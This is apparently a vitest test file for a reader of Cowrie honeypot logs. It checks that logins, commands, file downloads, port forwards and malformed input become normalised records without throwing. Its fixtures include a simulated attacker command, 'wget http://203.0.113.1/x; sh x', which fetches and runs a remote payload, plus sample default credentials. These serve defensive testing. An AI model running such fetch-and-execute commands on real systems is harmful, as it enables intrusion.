import { createHash } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cowrieReader } from './cowrie.ts'
import { readings, recordsOf, secretOf, told } from './read-lines.fixture.ts'

const line = (eventid: string, fields: Record<string, unknown> = {}) => ({
  eventid: `cowrie.${eventid}`,
  session: 'a1b2c3d4e5f6',
  sensor: 'svr04',
  src_ip: '198.51.100.7',
  timestamp: '2026-01-05T10:00:00.123456Z',
  ...fields,
})
const connect = (fields = {}) =>
  line('session.connect', { src_port: 40_000, dst_ip: '10.0.0.2', dst_port: 2222, protocol: 'ssh', ...fields })
const origin = { origin_session: 'a1b2c3d4e5f6' }

describe("Cowrie's log", () => {
  it('becomes a session with the address, the port and the service that it began with', () => {
    const records = recordsOf(cowrieReader, connect({ protocol: 'telnet' }), line('login.failed', { username: 'root', password: 'x' }))
    expect(new Set(records.map(({ sessionId }) => sessionId)).size).toBe(1)
    for (const record of records)
      expect(record).toMatchObject({
        decky: 'svr04',
        service: 'telnet',
        attackerIp: '198.51.100.7',
        attackerPort: 40_000,
        ts: 1767607200123,
      })
    expect(records[0]).toMatchObject({ type: 'connect', body: { local_port: '2222', local_ip: '10.0.0.2' } })
  })

  it('tells what each of its events says, under our names', () => {
    const sha256 = 'a'.repeat(64)
    const records = recordsOf(
      cowrieReader,
      connect(),
      line('client.version', { version: "b'SSH-2.0-Go'" }),
      line('client.kex', { hassh: 'ff', hasshAlgorithms: 'kex;enc;mac;none' }),
      line('client.fingerprint', { username: 'git', fingerprint: 'SHA256:abc', type: 'ssh-rsa', key: 'AAAA' }),
      line('login.success', { username: 'root', password: 'admin' }),
      line('command.input', { input: 'wget http://203.0.113.1/x; sh x' }),
      line('command.failed', { input: 'x' }),
      line('session.file_download', { url: 'http://203.0.113.1/x', outfile: `dl/${sha256}`, shasum: sha256 }),
      line('session.file_download.failed', { url: 'http://203.0.113.1/y' }),
      line('session.file_upload', { filename: '/tmp/z', outfile: 'dl/z', shasum: 'b'.repeat(64) }),
      line('direct-tcpip.request', { dst_ip: '192.0.2.9', dst_port: 25, src_ip: '203.0.113.99' }),
      line('direct-tcpip.data', { dst_ip: '192.0.2.9', dst_port: 25, data: "b'EHLO \\xff'" }),
      line('session.closed', { duration: '12.5' }),
    )
    expect(told(records).slice(1)).toEqual([
      ['client_hello', { ...origin, client_version: 'SSH-2.0-Go' }],
      ['client_hello', { ...origin, hassh: 'ff', hassh_algorithms: 'kex;enc;mac;none' }],
      [
        'auth_attempt',
        {
          ...origin,
          key: 'AAAA',
          principal: 'git',
          secret_kind: 'publickey',
          outcome: 'unknown',
          method: 'publickey',
          key_fingerprint: 'SHA256:abc',
          key_algorithm: 'ssh-rsa',
        },
      ],
      [
        'auth_attempt',
        {
          ...origin,
          principal: 'root',
          secret_b64: 'YWRtaW4=',
          secret_printable: 'admin',
          secret_kind: 'plaintext',
          outcome: 'success',
          method: 'password',
        },
      ],
      ['command', { ...origin, command: 'wget http://203.0.113.1/x; sh x' }],
      ['download_attempt', { ...origin, url: 'http://203.0.113.1/x', tool: 'wget' }],
      ['file_captured', { ...origin, sha256, path: 'http://203.0.113.1/x', via: 'shell', truncated: 'false' }],
      ['download_attempt', { ...origin, url: 'http://203.0.113.1/y', tool: 'wget' }],
      ['file_captured', { ...origin, sha256: 'b'.repeat(64), path: '/tmp/z', via: 'sftp', truncated: 'false' }],
      ['forward_attempt', { ...origin, kind: 'direct-tcpip', target: '192.0.2.9:25' }],
      [
        'forward_attempt',
        { ...origin, kind: 'direct-tcpip', target: '192.0.2.9:25', data_b64: Buffer.from('EHLO \xff', 'latin1').toString('base64') },
      ],
      ['disconnect', { ...origin, reason: 'client', duration_ms: '12500' }],
    ])
    // An address that the attacker names is not the attacker's.
    for (const { attackerIp } of records) expect(attackerIp).toBe('198.51.100.7')
  })

  it.each([
    ['text', 'pässwörd', Buffer.from('pässwörd')],
    ['nothing', '', Buffer.alloc(0)],
    ['NUL and quotes', 'a\u0000"\\\u001b', Buffer.from('a\0"\\\u001b')],
    ['bytes that Python wrote as repr', "b'\\xff\\xfe\\n\\''", Buffer.from([0xff, 0xfe, 10, 39])],
    ['something typed that looks like repr', "b'abc'", Buffer.from("b'abc'")],
    ['bytes that Python escaped as surrogates', 'a\udcffb', Buffer.from([97, 255, 98])],
    ['a lone surrogate', '\ud800', Buffer.from([0xed, 0xa0, 0x80])],
  ])('keeps the exact bytes of a secret: %s', (_what, password, bytes) => {
    const [record] = recordsOf(cowrieReader, line('login.failed', { username: 'root', password }))
    expect(record && secretOf(record)).toEqual(bytes)
  })

  it.each([[undefined], [null], [42], [{}], [[]], [true]])('does not understand an input that is no text: %j', (odd) => {
    for (const eventid of ['command.input', 'session.input'])
      expect(readings(cowrieReader, line(eventid, { input: odd }))).toEqual([{ unknown: 'an input that is no text' }])
  })

  it.each([
    ['username', { a: 1 }],
    ['username', true],
    ['password', ['a', 'b']],
    ['src_ip', { x: 1 }],
    ['session', [['a']]],
    ['sensor', false],
  ])('does not understand a %s that is no text: %j', (name, odd) => {
    expect(readings(cowrieReader, line('login.failed', { username: 'root', password: 'x', [name]: odd }))).toEqual([
      { unknown: `${name} is no text` },
    ])
  })

  it('keeps bytes that are not UTF-8 in the file itself', () => {
    const [before = '', after = ''] = JSON.stringify(line('login.failed', { username: 'ü', password: 'X' })).split('"X"')
    const written = Buffer.concat([Buffer.from(`${before}"`), Buffer.from([0xff, 0xc3, 0x28, 0x80]), Buffer.from(`"${after}`)])
    const [record] = recordsOf(cowrieReader, written)
    expect(record && secretOf(record)).toEqual(Buffer.from([0xff, 0xc3, 0x28, 0x80]))
    expect(record?.body.principal).toBe('ü')
  })

  it('keeps the beginning of a command of a megabyte, its length and its hash', () => {
    const input = 'é'.repeat(500_000)
    const [record] = recordsOf(cowrieReader, line('command.input', { input }))
    expect(record?.body).toMatchObject({ command_truncated: '1000000', command_sha256: createHash('sha256').update(input).digest('hex') })
    expect(String(record?.body.command)).toBe(input.slice(0, 32 * 1024))
  })

  it('takes what the result of a command says only where its line is missing', () => {
    expect(told(recordsOf(cowrieReader, line('command.failed', { input: 'xyz' })))).toEqual([['command', { ...origin, command: 'xyz' }]])
  })

  it('knows what says nothing of an attacker, by name, and nothing that it does not know', () => {
    expect(
      readings(
        cowrieReader,
        line('session.params', { arch: 'x' }),
        line('client.size', { width: 80, height: 24 }),
        line('virustotal.scanfile', {}),
        line('something.new', {}),
        { ...line('login.failed'), timestamp: 'yesterday' },
        { ...line('login.failed'), timestamp: '2026-02-30T08:00:00.000000Z' },
        { sensor: 'x' },
        JSON.stringify(line('login.failed')).slice(0, 60),
        'no JSON',
        '["cowrie.login.failed"]',
        Buffer.from([0, 255, 123]),
      ),
    ).toEqual([
      { unused: 'cowrie.session.params' },
      { unused: 'cowrie.client.size' },
      { unused: 'cowrie.virustotal.scanfile' },
      { unknown: 'an eventid that is not known' },
      { unknown: 'no time' },
      { unknown: 'no time' },
      { unknown: 'no eventid' },
      { unknown: 'not a JSON object' },
      { unknown: 'not a JSON object' },
      { unknown: 'not a JSON object' },
      { unknown: 'not a JSON object' },
    ])
  })

  it('asks for a recording with the size of the terminal', () => {
    const [, reading] = readings(
      cowrieReader,
      line('client.size', { width: 120, height: 40 }),
      line('log.closed', { ttylog: 'var/tty/abc', duration: 3 }),
    )
    expect(reading).toMatchObject({
      events: [
        { event: { type: 'session_recorded' }, wish: { kind: 'recording', file: 'var/tty/abc', columns: 120, rows: 40, title: 'svr04' } },
      ],
    })
  })

  it('goes on where an earlier reader stood', () => {
    const first = cowrieReader()
    first.read(Buffer.from(JSON.stringify(connect({ protocol: 'telnet' }))))
    const second = cowrieReader(JSON.parse(JSON.stringify(first.state())))
    expect(second.open).toBe(1)
    const login = Buffer.from(JSON.stringify(line('login.failed', { username: 'a', password: 'b', src_ip: undefined })))
    expect(second.read(login)).toEqual(first.read(login))
    expect(second.read(login)).toMatchObject({ events: [{ service: 'telnet', port: 40_000, ip: '198.51.100.7' }] })
  })

  it('survives deep JSON, names of the prototype and values of every kind', () => {
    const deep = `{"eventid":"cowrie.login.failed","timestamp":"2026-01-05T10:00:00Z","session":"x","password":${'['.repeat(50_000)}${']'.repeat(50_000)}}`
    expect(readings(cowrieReader, deep)).toEqual([{ unknown: 'password is no text' }])
    for (const eventid of ['constructor', '__proto__', 'toString', 7, null, ['cowrie.login.failed']])
      expect(readings(cowrieReader, { ...line('x'), eventid })).not.toHaveLength(0)
    const odd = recordsOf(cowrieReader, { ...connect(), src_ip: [], src_port: 'x', dst_port: -1, sensor: '__proto__', session: ['s'] })
    expect(odd).toMatchObject([{ decky: 'proto', attackerIp: null }])
  })

  it('never throws on any bytes', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => readings(cowrieReader, Buffer.from(bytes)).length === 1))
  })

  it('never throws on any object', () => {
    const names = fc.constantFrom('timestamp', 'session', 'password', 'input', 'shasum', 'ttylog', 'url', 'sensor', 'src_ip')
    const kinds = fc.constantFrom('login.failed', 'command.input', 'session.file_download', 'log.closed', 'client.kex', 'session.connect')
    fc.assert(
      fc.property(fc.dictionary(names, fc.jsonValue()), kinds, (fields, kind) => {
        recordsOf(cowrieReader, { ...line(kind), ...fields })
      }),
    )
  })
})
